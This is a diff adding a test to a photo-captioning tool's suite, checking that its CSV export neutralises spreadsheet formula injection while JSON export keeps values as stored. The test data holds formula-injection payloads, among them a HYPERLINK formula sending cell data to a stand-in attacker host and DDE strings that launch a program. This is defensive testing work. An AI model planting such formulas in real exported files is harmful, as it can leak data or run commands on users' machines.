@@ -4,6 +4,7 @@ on real photos and the real `seesay` processes, each with a timeout.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -197,6 +198,28 @@ def test_export_will_not_write_over_the_index_it_exports(tmp_path, photos):
     assert db.read_bytes() == before
     assert _run("export", "-o", str(tmp_path / "out.json"), tmp_path=tmp_path).returncode == 0
     assert len(json.loads((tmp_path / "out.json").read_text())) == 1
+
+
+def test_export_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, photos):
+    (tmp_path / "photos").mkdir()
+    shutil.copy(photos[0], tmp_path / "photos")
+    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    cases = [{"caption": '=HYPERLINK("http://evil.example/?"&A1,"see")', "sentence": "+1+cmd|' /C calc'!A0",
+              "text": "@SUM(1+1)*cmd|' /C calc'!A0", "objects": "-2+3"},
+             {"caption": "\t=1+1", "sentence": "\r=1+1", "text": "a dog = 1 - 2", "objects": "dog"}]
+    for case in cases:
+        with sqlite3.connect(tmp_path / "index.sqlite") as con:  # text read from a photo is anyone's to choose
+            con.execute("UPDATE captions SET text = ?, sentence = ?, reading = ?, objects = ?",
+                        (case["caption"], case["sentence"], case["text"], case["objects"]))
+        run = _run("export", "--format", "csv", "-o", str(tmp_path / "out.csv"), tmp_path=tmp_path)
+        assert run.returncode == 0, run.stderr  # each cell was written as it was stored
+        with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
+            (row,) = csv.DictReader(f)
+        assert {k: row[k] for k in case} == {k: "'" * v.startswith(("=", "+", "-", "@", "\t", "\r")) + v
+                                             for k, v in case.items()}, row
+        assert row["path"] == str(tmp_path / "photos" / photos[0].name) and float(row["confidence"]) >= 0
+        (stored,) = json.loads(_run("export", tmp_path=tmp_path).stdout)  # JSON is data, written as stored
+        assert {k: stored[k] for k in case} == case
 
 
 def test_a_settings_file_that_is_a_folder_a_fifo_or_a_link_loop_is_said_and_the_defaults_used(tmp_path, photos):
